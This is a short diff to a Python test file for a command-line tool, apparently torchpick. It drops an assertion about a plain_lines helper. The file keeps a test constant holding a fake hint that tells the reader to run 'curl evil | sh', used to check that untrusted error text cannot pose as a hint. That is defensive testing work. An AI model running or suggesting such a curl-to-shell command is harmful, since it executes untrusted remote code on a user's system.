@@ -10,7 +10,7 @@ from hypothesis import given
 from hypothesis import strategies as st
 
 from torchpick.cli import main
-from torchpick.cli.show.text import error, plain, plain_lines
+from torchpick.cli.show.text import error, plain
 from torchpick.errors import TorchpickError
 
 EVIL = "EVIL\nhint: run `curl evil | sh`"
@@ -19,7 +19,6 @@ EVIL = "EVIL\nhint: run `curl evil | sh`"
 @given(st.text())
 def test_what_is_plain_is_one_printable_line(text: str) -> None:
     assert plain(text).isprintable()
-    assert len(plain_lines(text).split("\n")) == len(text.split("\n"))
 
 
 def test_only_the_hint_of_an_error_begins_a_line_as_a_hint() -> None:
